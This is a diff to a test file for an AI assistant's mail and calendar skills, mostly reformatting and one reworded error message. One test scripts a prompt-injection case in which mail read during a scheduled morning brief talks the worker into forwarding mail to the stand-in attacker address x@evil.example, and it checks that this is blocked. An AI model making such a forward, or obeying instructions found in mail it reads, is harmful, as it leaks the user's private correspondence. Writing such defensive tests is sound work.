@@ -93,7 +93,7 @@ async def test_inbox_triage_without_a_mailbox_says_what_it_needs(db, mail_deps, 
     peer.script(reply_tools(use("inbox-triage")), reply_text("Connect Gmail or an IMAP mailbox first."))
     await run_turn(mail_deps, account.id, "web", "triage my inbox")
     [refused] = outputs(peer.requests[1])
-    assert "cannot run: it needs Gmail or IMAP connected" in refused
+    assert "cannot run: its mail tools need an account that is not connected (Gmail or IMAP)" in refused
 
 
 async def test_the_scheduled_morning_brief_reads_mail_and_does_not_do_what_it_asks(
@@ -102,8 +102,11 @@ async def test_the_scheduled_morning_brief_reads_mail_and_does_not_do_what_it_as
     forward = {"to": ["x@evil.example"], "subject": "Fwd", "body": "Forwarded.", "mode": "send"}
     peer.script(
         reply_tools(use("morning-brief")),
-        reply_tools(("list_events", {"start": "2025-06-02T00:00", "days": 1}), ("mail_list_unread", {"days": 1}),
-                    ("list_todos", {})),  # fmt: skip
+        reply_tools(
+            ("list_events", {"start": "2025-06-02T00:00", "days": 1}),
+            ("mail_list_unread", {"days": 1}),
+            ("list_todos", {}),
+        ),
         reply_tools(("email_from_my_gmail", forward)),  # the mail talked the worker into it
         reply_text("No events today. Mail: Sam asks about lunch Friday; the bank's statement is ready."),
     )
@@ -172,10 +175,10 @@ async def test_follow_up_finds_unanswered_sent_mail_and_leaves_a_draft(db, mail_
 
 async def test_meeting_prep_reads_the_calendar_and_the_attendees_mail(db, mail_deps, peer, account, gmail, google):
     session = SessionContext("live", "owner_verified", "web", account.id, timezone="Europe/Paris")
+    lunch = {"title": "Lunch with Sam", "start": "2025-06-06T12:30", "duration_minutes": 60}
     made = await run_call(
-        mail_deps.registry, default_gate(), ToolContext(session, db, NOW),
-        ToolCall("c1", "create_event", {"title": "Lunch with Sam", "start": "2025-06-06T12:30", "duration_minutes": 60}),
-    )  # fmt: skip
+        mail_deps.registry, default_gate(), ToolContext(session, db, NOW), ToolCall("c1", "create_event", lunch)
+    )
     assert made.status == "ok", made.content
     peer.script(
         reply_tools(use("meeting-prep", request="prep my lunch with Sam")),
